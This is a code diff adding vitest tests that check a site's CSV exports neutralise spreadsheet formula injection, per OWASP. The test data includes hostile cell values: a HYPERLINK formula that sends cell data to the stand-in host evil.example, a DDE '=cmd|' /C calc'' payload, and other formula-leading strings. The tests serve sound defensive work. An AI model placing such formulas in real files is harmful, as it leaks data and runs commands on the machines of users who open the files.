@@ -1,5 +1,6 @@
 import path from 'node:path';
 import { describe, expect, it } from 'vitest';
+import { chartCsv } from '../src/domain/export/chart-csv.ts';
 import { csvField, hundredthsText, toCsv } from '../src/domain/export/csv.ts';
 import { releaseDownloads } from '../src/domain/export/downloads.ts';
 import { sha256Of } from '../src/domain/export/datapackage.ts';
@@ -25,6 +26,22 @@ describe('CSV writing', () => {
     expect(text.startsWith('\uFEFFh1,h2,h3,h4,h5\r\n')).toBe(true);
     expect(text.endsWith('\r\n')).toBe(true);
     expect(parseCsv(text, ',')).toEqual([['h1', 'h2', 'h3', 'h4', 'h5'], ['a,b', 'x"y', 'dòng\nhai', '', '0']]);
+  });
+  it.each([
+    ['=HYPERLINK("http://evil.example/?x="&A1,"x")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""x"")"`],
+    ["=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`],
+    ['@SUM(1+1)', `"'@SUM(1+1)"`],
+    ['+1+1', `"'+1+1"`],
+    ['-2+3+cmd|x', `"'-2+3+cmd|x"`],
+    ['\tTAB', `"'\tTAB"`],
+    ['\rCR', `"'\rCR"`],
+  ])('neutralises formula-like text %j (OWASP): a leading quote, always quoted', (text, field) => {
+    expect(csvField(text)).toBe(field);
+  });
+  it('keeps numbers numbers, negative ones too, however they are written', () => {
+    expect([csvField(-1.04), csvField('-1.04'), csvField(hundredthsText(-104)), csvField('+3'), csvField('-12'), csvField(0)]).toEqual(['-1.04', '-1.04', '-1.04', '+3', '-12', '0']);
+    const chart = chartCsv({ years: [2022], unit: 'percent', series: [{ column: 'reduction', title: 'r', points: [{ year: 2022, value: -104, illustrative: false }] }] });
+    expect(chart).toBe('\uFEFFyear,reduction,reduction_illustrative\r\n2022,-1.04,false\r\n');
   });
   it('prints hundredths exactly with two decimals', () => {
     expect(hundredthsText(1438)).toBe('14.38');
@@ -91,5 +108,32 @@ describe('release tables', () => {
     expect(obs.schema.primaryKey).toEqual(['vintage', 'code', 'year']);
     expect(obs.schema.fields.find((f: any) => f.name === 'poor').type).toBe('integer');
     expect(path.extname(obs.path)).toBe('.csv');
+  });
+});
+
+describe('no formula leaves the site', () => {
+  const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"x")', "=cmd|' /C calc'!A0", '@SUM(1+1)', '+1+1'];
+  // Written straight to disk, past the validator (which refuses them), as an attacker editing the JSON would.
+  const { dataRoot } = writeMini((f) => {
+    f.units.vintages[0].units[3].name = hostile[0];
+    f.observations.sources[0].title = hostile[1];
+    f.recognitions.recognitions[0].recipient.name = hostile[2];
+    f.recognitions.recognitions[0].decision = hostile[3];
+    f.crosswalks.sources[0].issuer = hostile[3];
+  });
+  it('every CSV download neutralises every formula-like cell', () => {
+    const files = releaseDownloads(loadSnapshot(dataRoot, MINI_RELEASE), { id: MINI_RELEASE, title: 't', status: 'published' }, { homepage: 'https://example.org' });
+    const csvs = files.filter((f) => f.kind === 'csv');
+    expect(csvs.length).toBeGreaterThan(0);
+    let seen = 0;
+    for (const f of csvs) {
+      for (const row of parseCsv(f.bytes.toString('utf8').replace(/^\uFEFF/, ''), ',')) {
+        for (const cell of row) {
+          expect(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/.test(cell), `${f.name}: ${cell}`).toBe(false);
+          if (hostile.some((h) => cell === `'${h}`)) seen++;
+        }
+      }
+    }
+    expect(seen).toBeGreaterThanOrEqual(hostile.length);
   });
 });
